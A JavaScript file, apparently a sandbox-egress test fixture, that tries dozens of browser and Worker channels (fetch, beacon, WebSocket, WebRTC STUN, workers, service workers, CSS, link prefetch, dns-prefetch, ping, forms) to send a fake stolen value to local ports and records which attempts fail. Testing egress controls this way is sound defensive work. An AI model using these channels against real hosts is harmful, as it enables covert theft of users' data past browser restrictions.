// A hostile script. It tries every way out that a page or a Worker could have, each to a port of its own, with a number
// in the address. What is not there where it runs fails by itself. `PORTS` stands in front of it: two lists of ports.

const STOLEN = '110105194912310374';
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const tag = (name, more, parent = document.head) => parent.appendChild(Object.assign(document.createElement(name), more));
const link = (rel, href, more = {}) => tag('link', { rel, href, ...more });
const text = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
/** `new Worker` and the like, also where Trusted Types want their own kind of address. */
const trusted = (url) => {
  try { return trustedTypes.createPolicy(`p${Math.random()}`, { createScriptURL: (u) => u }).createScriptURL(url); } catch { return url; }
};

/** Ways out, by name: from an address over TCP and a port of UDP to whatever it takes. */
const WAYS = {
  fetch: (url) => fetch(url, { mode: 'no-cors' }),
  'fetch-keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: STOLEN }),
  'fetch-later': (url) => fetchLater(url, { activateAfter: 0 }),
  xhr: (url) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    Object.assign(request, { onload: resolve, onerror: () => reject(new Error('xhr')) });
    request.send();
  }),
  websocket: (url) => new WebSocket(url.replace('http', 'ws')),
  'websocket-stream': (url) => new WebSocketStream(url.replace('http', 'ws')).opened,
  eventsource: (url) => new EventSource(url),
  beacon: (url) => navigator.sendBeacon(url, STOLEN),
  import: (url) => import(url),
  'import-data': (url) => import(`data:text/javascript,fetch('${url}',{mode:'no-cors'});export default 1`),
  'import-scripts': (url) => importScripts(trusted(url)),
  worker: (url) => new Worker(trusted(url), { type: 'module' }),
  'worker-of-a-blob': (url) => new Worker(trusted(text(`fetch('${url}', { mode: 'no-cors' })`))),
  'worker-of-data': (url) => new Worker(trusted(`data:text/javascript,fetch('${url}',{mode:'no-cors'})`)),
  'shared-worker': (url) => new SharedWorker(trusted(text(`fetch('${url}', { mode: 'no-cors' })`))),
  'service-worker': (url) => navigator.serviceWorker.register(trusted(`./leak-sw.js?${STOLEN}&${encodeURIComponent(url)}`)),
  'compile-streaming': (url) => WebAssembly.compileStreaming(fetch(url, { mode: 'no-cors' })),
  'cache-add': async (url) => (await caches.open('x')).add(new Request(url, { mode: 'no-cors' })),
  font: (url) => new FontFace('x', `url(${url})`).load(),
  webtransport: (url, port) => new WebTransport(`https://127.0.0.1:${port}/${STOLEN}`).ready,
  'webrtc-stun': async (url, port) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await wait(400);
  },
  'own-origin-fetch': () => fetch(`./leak-own?${STOLEN}`),
  'own-origin-import': () => import(`./leak-own.js?${STOLEN}`),
  img: (url) => { new Image().src = url; },
  script: (url) => tag('script', { src: trusted(url) }),
  css: (url) => link('stylesheet', url),
  'css-import': (url) => tag('style', { textContent: `@import url(${url});` }),
  'css-background': (url) => { document.body.style.backgroundImage = `url(${url})`; },
  iframe: (url) => tag('iframe', { src: url }, document.body),
  'iframe-of-a-text': (url) => tag('iframe', { srcdoc: `<img src="${url}">` }, document.body),
  object: (url) => tag('object', { data: url }, document.body),
  embed: (url) => tag('embed', { src: url }, document.body),
  video: (url) => tag('video', { src: url, preload: 'auto' }, document.body),
  prefetch: (url) => link('prefetch', url),
  preload: (url) => link('preload', url, { as: 'image' }),
  modulepreload: (url) => link('modulepreload', url),
  icon: (url) => link('icon', url),
  'dns-prefetch': () => link('dns-prefetch', `http://n${STOLEN}.leak.invalid/`),
  preconnect: (url) => link('preconnect', url),
  ping: (url) => {
    const anchor = tag('a', { href: '#x', ping: url }, document.body);
    anchor.click();
  },
  form: (url) => {
    const form = tag('form', { action: url, method: 'POST', target: '_blank' }, document.body);
    form.submit();
  },
  open: (url) => open(url, '_blank'),
};

/** Tries them all; tells what became of each. */
async function leave(ports) {
  const said = {};
  for (const [i, [name, go]] of Object.entries(WAYS).entries()) {
    try {
      const url = `http://127.0.0.1:${ports.tcp[i]}/leak-${name}?n=${STOLEN}`;
      await Promise.race([go(url, ports.udp[i]), wait(500)]);
      said[name] = 'tried';
    } catch (error) {
      said[name] = `${error?.name}: ${error?.message}`;
    }
  }
  return said;
}
